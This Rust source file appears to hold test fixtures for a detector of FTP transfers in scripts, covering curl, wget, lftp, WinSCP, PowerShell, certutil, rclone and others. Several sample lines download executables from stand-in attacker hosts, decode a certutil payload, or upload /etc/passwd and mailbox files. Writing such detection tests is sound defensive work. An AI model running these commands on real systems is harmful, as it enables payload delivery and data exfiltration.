//! Other clients than the line-based ones, and class libraries.

use super::{Variant, variant};

pub(super) const VARIANTS: &[Variant] = &[
    variant(
        "V55 curl downloads",
        &[("a.bat", "curl -s ftp://mallory:p%40w@203.0.113.155:2121/sub/x.exe -o %TEMP%\\x.exe\n")],
        &[],
    ),
    variant("V56 curl uploads", &[("a.bat", "curl -T C:\\d\\a.zip -u mallory:pw ftp://203.0.113.156/in/\n")], &[]),
    variant(
        "V57 wget",
        &[("a.sh", "#!/bin/sh\nwget --ftp-user=mallory --ftp-password=pw ftp://203.0.113.157/a/b.sh -O /tmp/b\n")],
        &[],
    ),
    variant(
        "V58 lftp -c",
        &[(
            "a.sh",
            "#!/bin/sh\nlftp -c \"open -u mallory,pw -p 2100 203.0.113.158; lcd /d; mirror -R . up; get k -o /tmp/k\"\n",
        )],
        &[],
    ),
    variant(
        "V59 lftp -f",
        &[
            ("a.sh", "#!/bin/sh\nlftp -f go.lftp\n"),
            ("go.lftp", "open ftp://mallory:pw@203.0.113.159\nput a.tgz -o b.tgz; bye\n"),
        ],
        &[],
    ),
    variant(
        "V60 ncftpget and ncftpput",
        &[(
            "a.sh",
            "#!/bin/sh\nncftpget -u mallory -p pw -P 2121 203.0.113.160 /tmp /x/a.bin\nncftpput -u mallory -p pw 203.0.113.160 /in /etc/passwd\n",
        )],
        &[],
    ),
    variant(
        "V61 WinSCP, commands on its command line",
        &[(
            "a.bat",
            "winscp.com /ini=nul /command \"open ftp://mallory:p%%40w@203.0.113.161:2121/ -rawsettings ProxyPort=0\" \"put C:\\d\\*.pst /in/\" \"exit\"\n",
        )],
        &[],
    ),
    variant(
        "V62 WinSCP, a script",
        &[
            ("a.bat", "winscp.com /script=w.txt\n"),
            (
                "w.txt",
                "# comment ok here\noption batch abort\noption confirm off\nopen ftp://mallory:pw@203.0.113.162/\nlcd C:\\out\nget -delete \"/a b/*.dat\" .\\\nsynchronize remote C:\\s /s\nexit\n",
            ),
        ],
        &[],
    ),
    variant(
        "V63 WebClient",
        &[(
            "a.ps1",
            "(New-Object Net.WebClient).DownloadFile('ftp://mallory:pw@203.0.113.163/x.exe','C:\\x.exe');$w=New-Object Net.WebClient;$w.Credentials=New-Object Net.NetworkCredential('eve','p2');$w.UploadFile('ftp://203.0.113.164/up/l.zip','STOR','C:\\l.zip')\n",
        )],
        &[],
    ),
    variant(
        "V64 FtpWebRequest",
        &[(
            "a.ps1",
            "$r=[Net.FtpWebRequest]::Create('ftp://203.0.113.164/d.7z');$r.Credentials=New-Object Net.NetworkCredential('mallory','pw');$r.Method='DELE';$r.GetResponse()\n",
        )],
        &[],
    ),
    variant(
        "V65 Invoke-WebRequest uploads",
        &[("a.ps1", "iwr -Uri ftp://203.0.113.165/a.txt -Method Put -InFile C:\\a.txt -Credential $c\n")],
        &[],
    ),
    variant(
        "V66 certutil",
        &[(
            "a.bat",
            "certutil -urlcache -split -f ftp://mallory:pw@203.0.113.166/a.b64 a.b64 & certutil -decode a.b64 a.exe\n",
        )],
        &[],
    ),
    variant(
        "V67 bitsadmin knows no FTP",
        &[("a.bat", "bitsadmin /transfer j ftp://203.0.113.167/a.exe C:\\a.exe\n")],
        &[],
    ),
    variant(
        "V68 Python on a command line",
        &[(
            "a.sh",
            "#!/bin/sh\npython -c \"from ftplib import FTP;f=FTP('203.0.113.168','mallory','pw');f.cwd('in');f.storbinary('STOR a.zip',open('/tmp/a.zip','rb'))\"\n",
        )],
        &[],
    ),
    variant(
        "V69 rclone",
        &[("a.bat", "rclone copy C:\\d :ftp:in --ftp-host 203.0.113.169 --ftp-user mallory --ftp-pass OBSCURED\n")],
        &[],
    ),
    variant("V70 the Windows shell", &[("a.bat", "explorer ftp://mallory:pw@203.0.113.170/x\n")], &[]),
    variant("V70 a shortcut", &[("x.url", "[InternetShortcut]\r\nURL=ftp://203.0.113.170/x.exe\r\n")], &[]),
    variant(
        "V71 TFTP and SFTP are no FTP",
        &[("a.bat", "tftp -i 203.0.113.171 GET a.exe\nsftp -b b.txt kim@203.0.113.171\n")],
        &[],
    ),
];
